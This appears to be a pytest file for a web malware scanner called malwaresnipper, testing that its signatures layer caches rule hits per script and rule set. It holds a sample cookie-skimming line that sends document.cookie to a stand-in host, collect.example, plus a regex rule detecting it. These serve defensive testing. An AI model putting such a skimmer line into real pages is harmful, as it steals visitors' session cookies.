"""The signatures layer remembers its TOML rules' hits on a script (issue 17): a library seen on
page after page is scanned once per rule set, with the same result as a fresh scan."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from malwaresnipper.engine.capture import Capture
from malwaresnipper.engine.config import EngineConfig, Signatures
from malwaresnipper.engine.features import Features
from malwaresnipper.engine.features.javascript import clear_cache
from malwaresnipper.engine.layers.signatures import SCRIPT_HITS, SignaturesLayer
from malwaresnipper.engine.results import LayerResult

RULES = """
[[rule]]
id = "beacon"
description = "a beacon to a collector"
severity = "high"
target = "script"
patterns = [{regex = 'collect\\.example/c\\?d='}]

[[rule]]
id = "page_word"
description = "a page word"
severity = "low"
target = "html"
patterns = ["beacon"]
"""
LIBRARY = "function widget(a){return a*2}\n" * 40  # over the cache's minimum size
SKIMMER = LIBRARY + 'new Image().src="https://collect.example/c?d="+document.cookie;'


def layer(tmp_path: Path, rules: str = RULES) -> SignaturesLayer:
    (tmp_path / "rules.toml").write_text(textwrap.dedent(rules), encoding="utf-8")
    config = EngineConfig(signatures=Signatures(rule_files=["rules.toml"], include_default_rules=False),
                          base_dir=str(tmp_path))
    return SignaturesLayer(config)


def scan(sig: SignaturesLayer, *texts: str, html: str | None = None) -> LayerResult:
    capture = Capture.build("https://shop.example/", html=html, scripts=[
        {"url": f"https://cdn.example/{i}.js", "text": text, "inline": False} for i, text in enumerate(texts)])
    return sig.analyze(capture, Features(capture))


def summary(result: LayerResult) -> list[tuple[str, tuple[tuple[str, str, int | None], ...]]]:
    return [(i.id, tuple((e.snippet, e.location, e.offset) for e in i.evidence)) for i in result.indicators]


@pytest.fixture(autouse=True)
def cold() -> None:
    clear_cache()


def test_a_script_is_scanned_once_and_gives_the_fresh_scans_result(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    sig = layer(tmp_path)
    fresh = scan(sig, SKIMMER, LIBRARY, html="<p>beacon</p>")
    scanned: list[tuple[str, int]] = []
    real = sig.ruleset.scan

    def counted(target: str, text: str):  # noqa: ANN202 - the real scan, counted
        scanned.append((target, len(text)))
        return real(target, text)

    monkeypatch.setattr(sig.ruleset, "scan", counted)
    again = scan(sig, SKIMMER, LIBRARY, html="<p>beacon</p>")
    assert summary(again) == summary(fresh) and again.score == fresh.score > 0
    assert {i.id for i in again.indicators} == {"signatures.beacon", "signatures.page_word"}
    # The scripts came from the cache; the page and the URLs were scanned again.
    assert ("script", len(SKIMMER)) not in scanned and ("script", len(LIBRARY)) not in scanned
    assert ("html", len("<p>beacon</p>")) in scanned


def test_the_cache_is_per_rule_set_and_emptied_by_clear_cache(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = layer(tmp_path / "a")
    assert summary(scan(first, SKIMMER))  # remembered under the first rule set
    assert SCRIPT_HITS.get(first.ruleset_serial, SKIMMER) is not None
    # Other rules (no beacon rule) never see the first set's hits.
    page_rule_only = "[[rule]]" + RULES.split("[[rule]]")[2]
    second = layer(tmp_path / "b", page_rule_only)
    assert second.ruleset_serial != first.ruleset_serial
    assert "signatures.beacon" not in {i.id for i in scan(second, SKIMMER).indicators}
    clear_cache()
    assert SCRIPT_HITS.get(first.ruleset_serial, SKIMMER) is None


def test_short_scripts_are_not_kept(tmp_path: Path) -> None:
    sig = layer(tmp_path)
    short = 'new Image().src="https://collect.example/c?d="+1'
    assert "signatures.beacon" in {i.id for i in scan(sig, short).indicators}
    assert SCRIPT_HITS.get(sig.ruleset_serial, short) is None
